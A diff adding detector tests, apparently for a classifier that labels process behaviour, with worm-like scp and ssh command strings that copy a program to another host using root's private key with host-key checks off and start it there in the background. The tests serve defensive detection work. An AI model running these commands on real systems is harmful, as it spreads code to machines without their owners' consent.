@@ -214,3 +214,18 @@ test('a list that is kept weighs half, unless something is started that could ha
   const program = file('write', 'C:\\Users\\u\\AppData\\Local\\Maple\\b.exe', { atMs: 20 })
   assert.equal(strengthOfFetching(...keepsItsList, program), 1)
 })
+
+const UNASKED = '-o StrictHostKeyChecking=no -o BatchMode=yes'
+const byKeys = (options: string, what: string, starts = '/tmp/.kd'): string =>
+  labelOf(
+    environment({ sample: '/root/hop' }),
+    runs(`scp -q ${options} -i /root/.ssh/id_rsa ${what} root@10.0.2.20:/tmp/.kd`),
+    runs(`ssh ${options} -i /root/.ssh/id_rsa root@10.0.2.20 'nohup ${starts} >/dev/null 2>&1 &'`),
+  )
+test('what copies itself where keys lead, and starts there unasked, is a worm', () => {
+  assert.equal(byKeys(UNASKED, '/root/hop'), 'malicious')
+  assert.equal(byKeys(UNASKED, '/proc/self/exe'), 'malicious')
+  assert.notEqual(byKeys(UNASKED, '/srv/build/agent'), 'malicious', 'another program')
+  assert.notEqual(byKeys(UNASKED, '/root/hop', 'uptime'), 'malicious', 'it is not started')
+  assert.notEqual(byKeys('-o Port=2222', '/root/hop'), 'malicious', 'somebody is asked')
+})
